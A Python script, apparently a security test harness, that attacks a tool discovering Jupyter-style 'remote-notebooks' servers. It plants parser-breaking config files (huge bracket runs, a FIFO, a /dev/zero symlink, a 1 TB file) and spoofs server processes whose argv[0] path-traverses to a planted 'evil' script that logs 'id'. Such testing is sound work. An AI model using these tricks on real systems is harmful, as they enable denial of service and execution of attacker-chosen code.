"""Files that no parser likes, and processes that call themselves servers."""

import os
import subprocess

home = os.path.expanduser("~")
os.makedirs(f"{home}/.jupyter", exist_ok=True)
os.chdir(f"{home}/.jupyter")
with open("jupyter_config.json", "w") as file:
    file.write("[" * 200_000)
with open("jupyter_config.py", "w") as file:
    file.write("-" * 200_000)
os.mkfifo("jupyter_lab_config.json")
os.symlink("/dev/zero", "jupyter_lab_config.py")
with open("jupyter_notebook_config.json", "wb") as file:
    file.truncate(1 << 40)

with open(f"{home}/evil", "w") as file:
    file.write(f"#!/bin/sh\nid >>{home}/pwn\necho '{{}}'\n")
os.chmod(f"{home}/evil", 0o700)
envs = "/opt/remote-notebooks/envs"
real = os.path.join(envs, sorted(os.listdir(envs))[0], "bin/python")
for name in (f"{envs}/../../..{home}/evil", real):
    for instance in ("lab", "bob", "nobody"):
        subprocess.Popen(
            [name, "-X", f"remote_notebooks={instance}:0", "-c", "import time; time.sleep(600)"],
            executable="/usr/bin/python3",
            start_new_session=True,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
print("six processes, five files")
